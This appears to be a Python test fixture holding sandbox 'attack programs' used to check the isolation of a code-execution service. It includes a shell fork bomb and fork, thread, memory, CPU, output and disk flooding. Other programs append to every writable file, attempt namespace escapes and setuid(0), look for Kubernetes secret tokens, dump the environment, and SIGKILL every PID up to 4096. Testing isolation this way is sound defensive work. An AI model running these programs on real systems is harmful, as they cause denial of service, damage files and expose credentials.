"""The attack programs, as the Python source a user would send.

Each program reports on stdout in lines `TAG {json}`: `RESULT` is what it
achieved; `HOLD` means it holds a state (files written, tasks alive) and waits
for one line on stdin, so the test can look at the node meanwhile.
"""

from __future__ import annotations

import json

PRELUDE = r'''
import ctypes, errno, json, os, resource, signal, socket, subprocess, sys, threading, time

def out(tag, **kw):
    sys.stdout.write(tag + " " + json.dumps(kw) + "\n")
    sys.stdout.flush()

def hold(tag="HOLD", **kw):
    out(tag, **kw)
    sys.stdin.readline()

def tasks():
    """Processes+threads visible in this sandbox, from /proc."""
    n = 0
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                n += len(os.listdir("/proc/%s/task" % p))
            except OSError:
                pass
    return n

def settle(seconds=2.0):
    """The most tasks alive at once over a short while (children start late)."""
    best = 0
    end = time.time() + seconds
    while time.time() < end:
        best = max(best, tasks())
        time.sleep(0.1)
    return best

def fork_many(n):
    pids = []
    for _ in range(n):
        try:
            pid = os.fork()
        except OSError as e:
            return pids, errno.errorcode.get(e.errno, str(e.errno))
        if pid == 0:
            # A small process: a forked interpreter would cost the memory limit first.
            try:
                os.execv("/bin/sleep", ["sleep", "60"])
            finally:
                os._exit(127)
        pids.append(pid)
    return pids, None

def reap(pids):
    for p in pids:
        try:
            os.kill(p, signal.SIGKILL)
        except OSError:
            pass
    for p in pids:
        try:
            os.waitpid(p, 0)
        except OSError:
            pass

libc = ctypes.CDLL(None, use_errno=True)

def call(fn, *args):
    """A libc call: "ok" or the errno's name."""
    rc = fn(*args)
    return "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")

CLONE = {"user": 0x10000000, "pid": 0x20000000, "mount": 0x00020000, "net": 0x40000000,
         "uts": 0x04000000, "ipc": 0x08000000, "cgroup": 0x02000000}
'''

TASKS_WANTED = 64


def program(body: str, **params: object) -> str:
    """PRELUDE + constants + body; params become Python literals."""
    consts = "".join(f"{k} = json.loads({json.dumps(json.dumps(v))})\n" for k, v in params.items())
    return PRELUDE + consts + body


# -- process exhaustion: every route tries to hold TASKS_WANTED tasks at once ----------

FORK = program(
    """
pids, err = fork_many(WANT)
out("RESULT", route="fork", spawned=len(pids), error=err, held=settle())
reap(pids)
""",
    WANT=TASKS_WANTED,
)

THREADS = program(
    """
ev = threading.Event()
started, err = [], None
for _ in range(WANT):
    t = threading.Thread(target=ev.wait, daemon=True)
    try:
        t.start()
    except RuntimeError as e:
        err = str(e)
        break
    started.append(t)
held = settle()
ev.set()
out("RESULT", route="threads", spawned=len(started), error=err, held=held)
""",
    WANT=TASKS_WANTED,
)

NAMESPACES_THEN_FORK = program(
    """
uid, gid = os.getuid(), os.getgid()
res = {"route": "user+pid namespaces", "unshare_user": call(libc.unshare, CLONE["user"])}
if res["unshare_user"] == "ok":
    try:
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write("0 %d 1" % uid)
        with open("/proc/self/gid_map", "w") as f:
            f.write("0 %d 1" % gid)
        res["uid_in_namespace"] = os.getuid()
    except OSError as e:
        res["map_error"] = errno.errorcode.get(e.errno)
    try:
        resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2)
        res["raised_nproc"] = True
    except (OSError, ValueError) as e:
        res["raised_nproc"] = str(e)
res["unshare_pid"] = call(libc.unshare, CLONE["pid"])
pids, err = fork_many(WANT)
res.update(spawned=len(pids), error=err, held=settle())
out("RESULT", **res)
reap(pids)
""",
    WANT=TASKS_WANTED,
)

UNSHARE_COMMAND = program(
    """
# util-linux unshare(1): a new user (mapped root) and pid namespace, then a shell
# that starts sleepers in the background.
script = "i=0; while [ $i -lt %d ]; do sleep 60 & i=$((i+1)); done; sleep 60" % WANT
try:
    p = subprocess.Popen(["unshare", "-r", "-p", "-f", "sh", "-c", script],
                         stderr=subprocess.PIPE, start_new_session=True)
    started = "ok"
except OSError as e:
    p, started = None, str(e)
held = settle(4)
stderr = ""
if p is not None:
    try:
        os.killpg(p.pid, signal.SIGKILL)
    except OSError:
        pass
    stderr = p.communicate()[1].decode(errors="replace")[-400:]
out("RESULT", route="unshare(1)", started=started, held=held, stderr=stderr)
""",
    WANT=TASKS_WANTED,
)

SETRLIMIT = program(
    """
before = resource.getrlimit(resource.RLIMIT_NPROC)
tries = {}
for name, value in (("infinity", (resource.RLIM_INFINITY,) * 2),
                    ("hard", (before[1], before[1])), ("1000", (1000, 1000))):
    try:
        resource.setrlimit(resource.RLIMIT_NPROC, value)
        tries[name] = "ok"
    except (OSError, ValueError) as e:
        tries[name] = str(e)
after = resource.getrlimit(resource.RLIMIT_NPROC)
pids, err = fork_many(WANT)
out("RESULT", route="setrlimit", before=before, after=after, tries=tries,
    spawned=len(pids), error=err, held=settle())
reap(pids)
""",
    WANT=TASKS_WANTED,
)

EXEC = program(
    """
procs, err = [], None
for _ in range(WANT // 2):
    try:
        procs.append(subprocess.Popen(["/bin/sh", "-c", "sleep 60 & sleep 60 & wait"],
                                      stderr=subprocess.DEVNULL, start_new_session=True))
    except OSError as e:
        err = errno.errorcode.get(e.errno, str(e))
        break
held = settle(3)
for p in procs:
    try:
        os.killpg(p.pid, signal.SIGKILL)
    except OSError:
        pass
    p.wait()
out("RESULT", route="exec", spawned=len(procs), error=err, held=held)
""",
    WANT=TASKS_WANTED,
)

SETUID = program(
    """
found = []
for top in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/lib", "/usr/libexec"):
    for d, _dirs, files in os.walk(top):
        for f in files:
            path = os.path.join(d, f)
            try:
                if os.lstat(path).st_mode & 0o6000 and os.path.isfile(path):
                    found.append(path)
            except OSError:
                pass
euids = {}
for b in found[:16]:
    try:
        p = subprocess.Popen([b], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    except OSError as e:
        euids[b] = str(e)
        continue
    time.sleep(0.3)
    try:
        with open("/proc/%d/status" % p.pid) as f:
            uid_line = [l for l in f if l.startswith("Uid:")][0]
        euids[b] = int(uid_line.split()[2])
    except (OSError, IndexError):
        euids[b] = "exited"
    p.kill()
    p.wait()
calls = {"setuid(0)": call(libc.setuid, 0), "setresuid(0)": call(libc.setresuid, 0, 0, 0),
         "setgid(0)": call(libc.setgid, 0)}
pids, err = fork_many(WANT)
out("RESULT", route="setuid", setuid_binaries=found, euids=euids, calls=calls,
    uid=os.getuid(), euid=os.geteuid(), spawned=len(pids), error=err, held=settle())
reap(pids)
""",
    WANT=TASKS_WANTED,
)

FORK_BOMB = program(
    """
# The classic, in the shell: every process forks more of itself, forever. A reporter
# outside the bomb prints how many tasks it sees; the session ends on its time limit.
subprocess.Popen(["/bin/sh", "-c", "b() { while :; do b & done; }; b"], stderr=subprocess.DEVNULL)
peak = 0
while True:
    n = tasks()
    peak = max(peak, n)
    out("TASKS", now=n, peak=peak)
    time.sleep(0.5)
"""
)

# -- memory, CPU, output ------------------------------------------------------------

MEMORY = program(
    """
chunks = []
for i in range(40):
    chunks.append(bytearray(b"\\x01") * (10 * 2**20))
    out("MEM", mib=(i + 1) * 10)
out("RESULT", survived=True)
"""
)

CPU = program(
    """
pids = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        end = time.time() + 9
        while time.time() < end:
            pass
        os._exit(0)
    pids.append(pid)
out("BUSY", workers=len(pids))
for p in pids:
    os.waitpid(p, 0)
out("RESULT", done=True)
"""
)

FLOOD_STDOUT = program(
    """
chunk = "x" * 65535 + "\\n"
while True:
    sys.stdout.write(chunk)
"""
)

FLOOD_STDERR = program(
    """
chunk = "y" * 65535 + "\\n"
while True:
    sys.stderr.write(chunk)
"""
)

# -- disk -----------------------------------------------------------------------------

DISK = program(
    """
# Every writable place: directories we can create a file in, files we can
# append to. Fill each with more than the workspace's cap, one at a time.
SKIP = ("/proc", "/sys")
dirs, files = [], []
for d, subdirs, names in os.walk("/"):
    subdirs[:] = [s for s in subdirs if os.path.join(d, s) not in SKIP]
    if os.access(d, os.W_OK):
        dirs.append(d)
    for n in names:
        p = os.path.join(d, n)
        try:
            st = os.lstat(p)
        except OSError:
            continue
        if (st.st_mode & 0o170000) == 0o100000 and os.access(p, os.W_OK):
            files.append(p)
out("PATHS", dirs=dirs, files=files)
chunk = b"z" * 2**20
for kind, path in [("dir", d) for d in dirs[:12]] + [("file", f) for f in files[:12]]:
    target = os.path.join(path, ".icee-fill") if kind == "dir" else path
    size0 = os.path.getsize(target) if kind == "file" else 0
    written, err = 0, None
    try:
        fd = os.open(target, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
    except OSError as e:
        out("FILLED", kind=kind, path=path, written=0, error=errno.errorcode.get(e.errno))
        continue
    try:
        while written < WANT:
            written += os.write(fd, chunk)
        os.fsync(fd)
    except OSError as e:
        err = errno.errorcode.get(e.errno, str(e.errno))
    os.close(fd)
    hold("FILLED", kind=kind, path=path, written=written, error=err)
    try:
        if kind == "dir":
            os.unlink(target)
        else:
            os.truncate(target, size0)
    except OSError:
        pass
out("RESULT", dirs=dirs, files=files)
""",
    WANT=48 * 2**20,
)

INODES = program(
    """
os.mkdir("/workspace/i")
n, err, t0 = 0, None, time.time()
try:
    while n < WANT and time.time() - t0 < 20:
        os.close(os.open("/workspace/i/%d" % n, os.O_CREAT | os.O_WRONLY, 0o600))
        n += 1
except OSError as e:
    err = errno.errorcode.get(e.errno, str(e.errno))
hold("FILLED", kind="inodes", path="/workspace/i", files=n, error=err)
out("RESULT", files=n, error=err)
""",
    WANT=50_000,
)

# -- reach, identity, leaks ---------------------------------------------------------------

NETWORK_BODY = """
res = {"interfaces": sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net")
       else [n for _i, n in socket.if_nameindex()]}
tcp = {}
for name, (host, port) in TARGETS.items():
    try:
        socket.create_connection((host, port), timeout=2).close()
        tcp[name] = "open"
    except OSError as e:
        tcp[name] = errno.errorcode.get(e.errno, type(e).__name__) if e.errno else type(e).__name__
res["tcp"] = tcp
# The Kubernetes API without credentials: does it answer, and with what?
try:
    import ssl, http.client
    c = http.client.HTTPSConnection(TARGETS["kubernetes-api"][0], 443, timeout=3,
                                    context=ssl._create_unverified_context())
    c.request("GET", "/api/v1/namespaces/%s/pods" % NAMESPACE)
    res["kubernetes_api_status"] = c.getresponse().status
except OSError as e:
    res["kubernetes_api_status"] = type(e).__name__
# DNS: the resolver the kubelet configured, asked directly.
try:
    res["resolv_conf"] = open("/etc/resolv.conf").read()
except OSError as e:
    res["resolv_conf"] = str(e)
try:
    res["dns"] = socket.getaddrinfo("kubernetes.default.svc.cluster.local", 443)[0][4][0]
except OSError as e:
    res["dns"] = type(e).__name__
out("RESULT", **res)
"""

IDENTITY = program(
    """
status = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
pick = {k: status[k].strip() for k in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff",
        "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp") if k in status}
tokens = [p for p in ("/var/run/secrets/kubernetes.io", "/run/secrets/kubernetes.io",
                      "/var/run/secrets", "/run/secrets") if os.path.exists(p)]
secret_mounts = [l for l in open("/proc/self/mountinfo") if "secret" in l or "token" in l]
libc.prctl.restype = ctypes.c_int
out("RESULT", uid=os.getuid(), gid=os.getgid(), euid=os.geteuid(), status=pick,
    no_new_privs=libc.prctl(39, 0, 0, 0, 0), seccomp=libc.prctl(21, 0, 0, 0, 0),
    tokens=tokens, secret_mounts=secret_mounts)
"""
)

PROC_SYS = program(
    """
def read(p, n=4096):
    try:
        with open(p, "rb") as f:
            return f.read(n).decode(errors="replace")
    except OSError as e:
        return "!" + errno.errorcode.get(e.errno, str(e.errno))
procs = {}
for p in os.listdir("/proc"):
    if p.isdigit():
        procs[p] = read("/proc/%s/cmdline" % p, 300).replace("\\0", " ")
out("RESULT", procs=procs, version=read("/proc/version"), cmdline=read("/proc/cmdline"),
    mountinfo=read("/proc/self/mountinfo", 65536), kallsyms=read("/proc/kallsyms", 200),
    kmsg=read("/dev/kmsg", 200), sched_debug=read("/proc/sched_debug", 200),
    cgroups=sorted(os.listdir("/sys/fs/cgroup")) if os.path.isdir("/sys/fs/cgroup") else [],
    dmi=read("/sys/class/dmi/id/product_uuid", 100),
    machine_id=read("/etc/machine-id", 100), hostname=socket.gethostname())
"""
)

ENVIRONMENT = program(
    """
out("RESULT", env=dict(os.environ))
"""
)

# -- other sessions ----------------------------------------------------------------------

PERSIST_WRITE_BODY = """
written = []
for d in ("/workspace", "/tmp", "/dev/shm", "/run", "/var/tmp", "/home"):
    p = os.path.join(d, MARKER)
    try:
        with open(p, "w") as f:
            f.write("left by an earlier session")
        written.append(p)
    except OSError:
        pass
out("RESULT", written=written)
"""

PERSIST_READ_BODY = """
found = {}
for d in ("/workspace", "/tmp", "/dev/shm", "/run", "/var/tmp", "/home"):
    try:
        names = os.listdir(d)
    except OSError:
        continue
    if names:
        found[d] = names
out("RESULT", found=found, marker_seen=any(MARKER in n for v in found.values() for n in v))
"""

VICTIM_BODY = """
import select
out("VICTIM", pid=os.getpid(), marker=MARKER)
while True:
    # A beat every few seconds keeps the session from its idle timeout while it waits.
    if not select.select([sys.stdin], [], [], 5)[0]:
        out("BEAT")
        continue
    line = sys.stdin.readline()
    if not line or line.strip() == "bye":
        break
    out("ECHO", line=line.strip())
out("RESULT", alive=True)
"""


INTRUDER_BODY = """
def parent(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0
# This session's own chain (the program, and whatever started it) is left alone.
mine, p = set(), os.getpid()
while p > 0 and p not in mine:
    mine.add(p)
    p = parent(p)
seen = {}
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            seen[p] = open("/proc/%s/cmdline" % p, "rb").read().decode(errors="replace")
        except OSError:
            pass
marker_seen = any(MARKER in c for c in seen.values())
# Signal everything else that might exist: every pid up to 4096.
signalled = []
for pid in range(1, 4097):
    if pid in mine:
        continue
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        continue
    signalled.append(pid)
out("RESULT", seen=seen, marker_seen=marker_seen, signalled=signalled, mine=sorted(mine))
"""


# -- namespaces ----------------------------------------------------------------------------

ESCAPES = program(
    """
res = {"unshare": {}, "setns": {}, "mount": None, "chroot": None}
for name, flag in CLONE.items():
    # In a child, so one success does not change what the next try sees.
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.write(w, call(libc.unshare, flag).encode())
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    res["unshare"][name] = os.read(r, 64).decode() or "no answer"
    os.close(r)
for name in ("user", "mnt", "pid", "net", "uts", "ipc", "cgroup"):
    try:
        fd = os.open("/proc/1/ns/" + name, os.O_RDONLY)
    except OSError as e:
        res["setns"][name] = "open " + errno.errorcode.get(e.errno, "?")
        continue
    res["setns"][name] = call(libc.setns, fd, 0)
    os.close(fd)
os.makedirs("/workspace/m", exist_ok=True)
res["mount"] = call(libc.mount, b"none", b"/workspace/m", b"tmpfs", 0, None)
res["mount_proc"] = call(libc.mount, b"proc", b"/workspace/m", b"proc", 0, None)
res["chroot"] = call(libc.chroot, b"/workspace")
# A new user namespace with a mount namespace, then mounts inside it.
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    got = {"unshare": call(libc.unshare, CLONE["user"] | CLONE["mount"])}
    if got["unshare"] == "ok":
        got["tmpfs_over_root_dir"] = call(libc.mount, b"none", b"/usr", b"tmpfs", 0, None)
        # MS_REMOUNT without MS_RDONLY
        got["remount_root_rw"] = call(libc.mount, None, b"/", None, 0x20, None)
    os.write(w, json.dumps(got).encode())
    os._exit(0)
os.close(w)
os.waitpid(pid, 0)
res["user_and_mount"] = json.loads(os.read(r, 4096) or b"{}")
out("RESULT", **res)
"""
)

CANARY = """\
import sys
line = sys.stdin.readline()
print("echo:" + line.strip(), flush=True)
print(sum(range(100000)))
"""
CANARY_STDOUT = "echo:ping\n4999950000\n"
